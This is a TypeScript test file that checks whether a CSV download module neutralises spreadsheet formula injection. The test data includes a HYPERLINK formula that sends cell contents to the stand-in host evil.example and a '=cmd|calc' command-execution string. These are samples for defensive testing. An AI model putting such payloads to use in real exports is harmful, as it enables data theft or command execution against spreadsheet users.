// Downloads are safe to open in a spreadsheet: formula-leading text is neutralised (OWASP), numbers stay numbers.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv } from '../../src/components/csv.ts';

const parse = (csv: string) => Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;

describe('CSV downloads', () => {
  it('neutralises every formula-leading text cell: =, +, -, @, tab, CR', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
      const text = `${lead}HYPERLINK("http://evil.example/?d="&A1,"x")`;
      expect(neutraliseFormula(text)).toBe(`'${text}`);
      const [, [cell]] = parse(toCsv([{ title: text }], [{ key: 'title', header: 'title' }]));
      expect(cell).toBe(`'${text}`);
    }
  });

  it('leaves ordinary text alone, and numbers (negative ones too) as numbers', () => {
    expect(neutraliseFormula('福建省 一网通办')).toBe('福建省 一网通办');
    expect(neutraliseFormula('a=b')).toBe('a=b');
    const csv = toCsv([{ name: '减少', delta: -3.5, n: 12 }], [
      { key: 'name', header: 'name' },
      { key: 'delta', header: 'delta' },
      { key: 'n', header: 'n' },
    ]);
    expect(csv.split('\r\n')[1]).toBe('减少,-3.5,12');
  });

  it('neutralises lists, objects and headers too (they are text in the file)', () => {
    const csv = toCsv([{ flags: ['=cmd|calc', 'x'], obj: { a: 1 } }], [
      { key: 'flags', header: '@header' },
      { key: 'obj', header: 'obj' },
    ]);
    const [header, row] = parse(csv);
    expect(header[0]).toBe("'@header");
    expect(row[0]).toBe("'=cmd|calc; x");
    expect(row[1]).toBe('{"a":1}');
  });
});
